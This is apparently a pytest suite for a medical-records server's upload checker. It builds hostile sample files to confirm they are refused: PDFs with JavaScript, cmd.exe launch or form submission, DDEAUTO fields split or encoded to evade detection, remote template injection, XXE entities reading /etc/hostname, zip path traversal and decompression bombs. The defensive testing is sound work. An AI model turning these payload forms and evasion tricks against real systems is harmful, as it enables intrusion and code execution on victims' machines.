"""What is taken as an upload, and what is not: by content, size, and what would act by itself."""

import io
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String


def check(content: bytes, name: str = "file", **options: int) -> str:
    from openimr.server.store.checks import check_upload

    pieces = (content[i : i + 1000] for i in range(0, len(content), 1000))
    return check_upload(pieces, name, **options)


def refusal(content: bytes, name: str = "file", **options: int) -> str:
    from openimr.server.store.upload_errors import UploadError

    with pytest.raises(UploadError) as refused:
        check(content, name, **options)
    return str(refused.value)


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _: None, **how: object) -> bytes:
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        out = io.BytesIO()
        made.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def on_open(action: Callable[[], Dictionary]) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(action())

    return change


def on_a_note(action: Callable[[], Dictionary]) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=made.make_indirect(action()))
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return change


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["x.exe"] = b"MZ"


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("cmd.exe"))


def submit() -> Dictionary:
    return Dictionary(S=Name.SubmitForm, F=String("https://elsewhere.example"))


PACKED = pikepdf.ObjectStreamMode.generate
OPEN = pikepdf.ObjectStreamMode.disable


def test_plain_files_are_taken_by_what_they_are():
    assert check(pdf(), "record.pdf") == "application/pdf"
    assert check(pdf(object_stream_mode=PACKED)) == "application/pdf"
    assert check(b"\x89PNG\r\n\x1a\n" + bytes(50), "a.png") == "image/png"
    assert check(b"II*\x00" + bytes(50), "fax.tif") == "image/tiff"
    assert check(b"Progress report. Patient seen today.", "note.txt") == "text/plain"
    assert check(b'{"resourceType": "Bundle"}', "b.json") == "application/json"
    assert check(b"{\\rtf1 Progress report}", "n.rtf") == "application/rtf"


REFUSED = {"locked.pdf", "final-2017-encrypted-date-forms.pdf", "broken-off.pdf"}
EXAMPLES = [path for path in sorted(Path("examples").rglob("*.pdf")) if path.name not in REFUSED]


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.name)
def test_the_pdfs_of_the_examples_are_taken(path: Path):
    assert check(path.read_bytes(), path.name) == "application/pdf"


@pytest.mark.parametrize("mode", [PACKED, OPEN], ids=["packed", "open"])
@pytest.mark.parametrize("put", [on_open, on_a_note])
@pytest.mark.parametrize(("action", "says"), [(script, "scripts"), (launch, "starts programs"), (submit, "sends data")])
def test_a_pdf_that_acts_is_refused_wherever_the_action_stands(put, action, says: str, mode):  # type: ignore[no-untyped-def]
    assert says in refusal(pdf(put(action), object_stream_mode=mode))


def test_files_inside_a_pdf_are_refused():
    assert "other files inside" in refusal(pdf(attached))


@pytest.mark.parametrize("password", ["", "secret"])
def test_an_encrypted_pdf_is_refused_also_where_no_password_is_asked(password: str):
    locked = pikepdf.Encryption(user=password, owner="owner")
    assert "encrypted" in refusal(pdf(encryption=locked))


@pytest.mark.parametrize(
    ("find", "put"),
    [
        (b"/JavaScript", b"/J#61vaScript"),
        (b"/S /JavaScript", b"/S stream /S /JavaScript"),
        (b"/S /JavaScript", b"/S endobj /S /JavaScript"),
        (b"/S /JavaScript", b"/A (stream \\) endobj) /S /JavaScript"),
        (b" obj", b"%hidden\n obj"),
    ],
)
def test_a_script_that_hides_is_found(find: bytes, put: bytes):
    made = pdf(on_open(script), object_stream_mode=OPEN, static_id=True)
    assert find in made
    assert "JavaScript" in refusal(made.replace(find, put).replace(b"/JS (app", b"/J#53 (app"))


def test_an_object_inside_what_looks_like_a_stream_is_read_too():
    made = pdf(object_stream_mode=OPEN)
    inside = b"90 0 obj << /Length 60 >> stream\n91 0 obj << /S /JavaScript /JS (x) >> endobj\nendstream endobj\n"
    assert "JavaScript" in refusal(made.replace(b"xref", inside + b"xref", 1))


@pytest.mark.parametrize("window", [5, 64, 300])
def test_an_object_that_lies_across_two_windows_is_read(window: int, monkeypatch: pytest.MonkeyPatch):
    from openimr.server.store import pdf_checks

    monkeypatch.setattr(pdf_checks, "_WINDOW", window)
    assert check(pdf(object_stream_mode=OPEN)) == "application/pdf"
    for between in (b" ", b" \r\n ", b"%one\n%two % three\r\n", b" %" + b"-" * 150 + b"\n"):
        made = pdf(on_open(script), object_stream_mode=OPEN, static_id=True).replace(
            b" 0 obj", b" 0" + between + b"obj"
        )
        assert "JavaScript" in refusal(made)


def test_words_in_a_text_are_no_action():
    def titled(made: pikepdf.Pdf) -> None:
        made.docinfo["/Title"] = String("Uses /JavaScript and /Launch in its text")

    assert check(pdf(titled, object_stream_mode=OPEN)) == "application/pdf"


def test_an_object_stream_that_unpacks_without_end_is_refused():
    import zlib

    bomb = zlib.compress(bytes(70 * 1024 * 1024))
    made = pdf(object_stream_mode=OPEN)
    inside = (
        b"90 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n" + bomb + b"\nendstream endobj\n"
    )
    assert "can't be looked through" in refusal(made.replace(b"xref", inside + b"xref", 1))


def test_a_file_made_to_be_read_over_and_over_is_refused_soon(monkeypatch: pytest.MonkeyPatch):
    from openimr.server.store import pdf_checks

    monkeypatch.setattr(pdf_checks, "_MOST", 2 * 1024 * 1024)  # what every file may be looked at: 64 MB takes seconds

    def filled(made: pikepdf.Pdf) -> None:
        made.pages[0].Contents = made.make_stream(b"77 0 obj <<\n" * 60_000)

    made = pdf(filled, object_stream_mode=OPEN, compress_streams=False)
    assert "can't be looked through" in refusal(made)
    assert "can't be looked through" in refusal(pdf() + b"1 obj " * 100_000)  # each searched for an end that none has


@pytest.mark.parametrize("content", [b"", b"MZ\x90\x00" + bytes(range(256)) * 10, b"<html><script>x</script></html>"])
def test_what_is_no_record_is_refused(content: bytes):
    assert re.search("empty|not taken", refusal(content, "letter.pdf"))


def test_a_damaged_pdf_is_refused():
    assert "damaged" in refusal(b"%PDF-1.7\nnothing")


def test_a_name_that_says_something_else_is_refused():
    assert "content is application/pdf" in refusal(pdf(), "report.exe")


def test_a_file_over_the_limit_is_refused_before_it_is_read_to_the_end():
    from openimr.server.store.checks import check_upload
    from openimr.server.store.upload_errors import UploadError

    taken = []

    def endless():  # type: ignore[no-untyped-def]
        while True:
            taken.append(1)
            yield bytes(1024 * 1024)

    with pytest.raises(UploadError, match="larger than 3 MB"):
        check_upload(endless(), "x", limit=3 * 1024 * 1024)
    assert len(taken) == 4


def packed(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}


def test_a_word_file_is_taken_and_one_with_macros_is_not():
    assert check(packed(WORD), "n.docx").endswith("wordprocessingml.document")
    for inside in ("word/vbaProject.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin"):
        assert "macros or other files" in refusal(packed({**WORD, inside: b"x"}))


def test_each_member_of_a_zip_is_an_upload_of_its_own():
    assert check(packed({"a.pdf": pdf(), "b.txt": b"seen today"})) == "application/zip"
    assert "File 2 of the zip: The PDF carries scripts" in refusal(
        packed({"b.txt": b"x", "a.pdf": pdf(on_open(script))})
    )
    assert "another one in it" in refusal(packed({"a.zip": packed({"b.txt": b"x"})}))
    assert "lead out of it" in refusal(packed({"../../etc/passwd": b"x"}))


def test_a_small_zip_or_word_file_does_not_fill_the_disk():
    for bomb in ({"a.txt": b"A" * 2**23}, {**WORD, "word/document2.xml": b"A" * 2**23}):
        content = packed(bomb)
        assert len(content) < 20_000
        assert "unpacks to far more" in refusal(content, "a")


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", "RTF"),
        (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>', "entities"),
    ],
)
def test_text_files_that_carry_more_than_text_are_refused(content: bytes, says: str):
    assert says in refusal(content)


def stuffed(content: bytes, times: int) -> bytes:
    import zlib

    part = zlib.compress(content, 9)
    head = b" 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n"
    return pdf() + b"".join(b"%d%s%s\nendstream\nendobj\n" % (9000 + n, head, part) for n in range(times))


@pytest.mark.parametrize(
    "made",
    [
        lambda: stuffed(b"/A " * (20 * 1024 * 1024), 1),
        lambda: stuffed(b"/J#41 " * (400 * 1024), 20),
        lambda: stuffed(b"(/JS )/A " * (250 * 1024), 20),
        lambda: pdf() + b"9 0 obj << /A /A /A\n" * 20_000,
    ],
    ids=["names", "names in hexadecimal", "names in texts", "objects in objects"],
)
def test_a_small_pdf_is_never_looked_at_for_long(made: Callable[[], bytes]):
    content = made()
    assert len(content) < 500 * 1024
    assert "can't be looked through" in refusal(content)  # after a part of a second, not a minute


def test_a_pdf_that_shows_one_page_a_million_times_is_refused():
    kids = [b"<</Type/Catalog/Pages 2 0 R>>"]
    for level in range(3):
        kids.append(b"<</Type/Pages/Count %d/Kids[%s]>>" % (100 ** (3 - level), b"%d 0 R " % (len(kids) + 2) * 100))
    kids.append(b"<</Type/Page/MediaBox[0 0 9 9]>>")
    body = b"".join(b"%d 0 obj %s endobj\n" % (n, kid) for n, kid in enumerate(kids, 1))
    assert "one page over and over" in refusal(b"%PDF-1.4\n" + body + b"trailer <</Root 1 0 R/Size 6>>\n%%EOF")


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def tied(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word file with one relationship of its settings."""
    one = f'<Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="{mode}"/>'
    said = f'<?xml version="1.0"?><Relationships xmlns="urn:x">{one}</Relationships>'.encode()
    return packed({**WORD, "word/_rels/settings.xml.rels": said})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://elsewhere.example/x.dotm"),
        ("attachedTemplate", "file:///\\\\host\\share\\x.dotm"),
        ("attachedTemplate", "file:///%5C%5Chost%5Cx.dotm"),
        ("attachedTemplate", "file://host/x.dotm"),
        ("attachedTemplate", "//host/x.dotm"),
        ("attachedTemplate", "\\\\host\\x.dotm"),
        ("attachedTemplate", "mhtml:http://elsewhere.example/x"),
        ("attachedTemplate", ""),
        ("image", "https://elsewhere.example/seen.png"),
        ("oleObject", "file:///C:/x.xls"),
        ("frame", "http://elsewhere.example/"),
        ("subDocument", "x.docx"),
    ],
)
def test_a_word_file_that_fetches_something_from_elsewhere_is_refused(kind: str, target: str):
    assert "fetches something from another place" in refusal(tied(kind, target), "a.docx")
    assert "fetches something from another place" in refusal(tied(kind, target, " eXternal "), "a.docx")
    assert "fetches something from another place" in refusal(packed({"a.docx": tied(kind, target)}), "a.zip")
    if "://" in target:
        assert "fetches something from another place" in refusal(tied(kind, target, "Internal"), "a.docx")


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("hyperlink", "https://elsewhere.example/", "External"),
        ("hyperlink", "mailto:a@b.example", "External"),
        ("attachedTemplate", "file:///C:\\Users\\A%20B\\Letter.dotm", "External"),  # as Word writes the writer's own
        ("attachedTemplate", "Normal.dotm", "External"),
        ("image", "media/image1.png", "Internal"),
    ],
)
def test_links_and_what_lies_on_the_writers_own_disk_are_taken(kind: str, target: str, mode: str):
    assert check(tied(kind, target, mode), "a.docx").endswith("wordprocessingml.document")


def test_a_word_file_with_another_document_or_broken_relationships_is_refused():
    assert "another document in it" in refusal(tied("aFChunk", "afchunk.htm", "Internal"))
    assert "can't be opened" in refusal(packed({**WORD, "word/_rels/document.xml.rels": b"<Relationships><a"}))


@pytest.mark.parametrize("part", ["word/document.xml", "word/settings.xml", "word/_rels/document.xml.rels", "x/y.bin"])
@pytest.mark.parametrize("coded", ["utf-8", "utf-16"])
def test_entities_in_any_part_of_a_word_file_are_refused(part: str, coded: str):
    said = '<?xml version="1.0"?><!DocType a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'.encode(coded)
    assert "declares entities" in refusal(packed({**WORD, part: said}))


def test_entities_on_the_border_of_two_pieces_are_seen():
    long = random.Random(7).randbytes(2**20 - 4)  # noqa: S311 - only so that it does not pack
    assert "declares entities" in refusal(packed({**WORD, "word/x.xml": long + b"<!DOCTYPE a>"}))


def begun(*instructions: bytes) -> bytes:
    runs = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % one for one in instructions)
    return W % (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s' % runs
                + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip


@pytest.mark.parametrize(
    "document",
    [
        W % b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\cmd.exe"/></w:p>',
        begun(b" DDEAUTO excel"),
        begun(b" d", b"d", b"e ", b"x"),
        begun(b"DD", b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DATE'
                     b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>EAUTO x'),
        begun(b"DDEAUTO x").replace(b' w:fldCharType="end"', b' w:fldCharType="separate"'),
        begun(b"DDE x").replace(b"<w:fldChar", b"<w:x").decode().encode("utf-16"),
    ],
)  # fmt: skip
def test_a_field_that_starts_a_program_is_refused_however_it_is_parted(document: bytes):
    if document.startswith(b"\xff\xfe"):
        document = '<?xml version="1.0" encoding="utf-16"?>'.encode("utf-16") + document[2:]
    assert "starts another program" in refusal(packed({**WORD, "word/document.xml": document}))
    assert "starts another program" in refusal(packed({**WORD, "word/header1.xml": document}))


def test_other_fields_and_the_letters_themselves_are_taken():
    text = begun(b" PAGE ", b" \\* MERGEFORMAT") + b""
    told = W % b"<w:p><w:r><w:t>DDE was not found in the serum; DDEAUTO.</w:t></w:r></w:p>"
    assert check(packed({**WORD, "word/document.xml": text, "word/footer1.xml": told}))
    assert check(b"{\\rtf1 {\\field{\\*\\fldinst { PAGE }}{\\fldrslt DDE 1}} DDEAUTO}", "a.rtf") == "application/rtf"
    assert (
        check(b"{\\rtf1 {\\*\\template C:\\\\Office\\\\Letter.dot}{\\*\\templatetype}x}", "a.rtf") == "application/rtf"
    )


@pytest.mark.parametrize(
    ("inside", "says"),
    [
        (b"{\\*\\template http://elsewhere.example/x.dotm}", "fetches a template"),
        (b"{\\*\\template\r\n{\\rtlch h\\'74tp}{:/}\\'2fhost}", "fetches a template"),
        (b"{\\*\\template \\\\\\\\host\\\\x.dotm}", "fetches a template"),
        (b"{\\*\\template \\u104?\\u116?tp://host/x}", "fetches a template"),
        (b"{\\*\\template http{\\fldinst }://host/x}", "fetches a template"),
        (b"{\\field{\\*\\fldinst DDEAUTO excel}}", "starts another program"),
        (b"{\\field{\\*\\fldinst {\\rtlch D}{\\b DE}{AUTO x}}}", "starts another program"),
        (b"{\\field{\\*\\fldinst \\'44\\'44E x}}", "starts another program"),
    ],
)
def test_an_rtf_file_that_fetches_or_starts_something_is_refused_wherever_it_stands(inside: bytes, says: str):
    for before in (0, 2**20 - len(inside) // 2 - 6, 2**20 + 2**16):
        assert says in refusal(b"{\\rtf1 " + b"a" * before + inside + b"Hello}", "a.rtf")
    assert says in refusal(packed({"a.rtf": b"{\\rtf1 " + inside + b"Hello}"}), "a.zip")


def test_a_long_rtf_file_of_fields_is_looked_through_in_time():
    check(b"{\\rtf1 " + b"{\\fldinst }{\\*\\template a}" * 100_000 + b"}", "a.rtf")
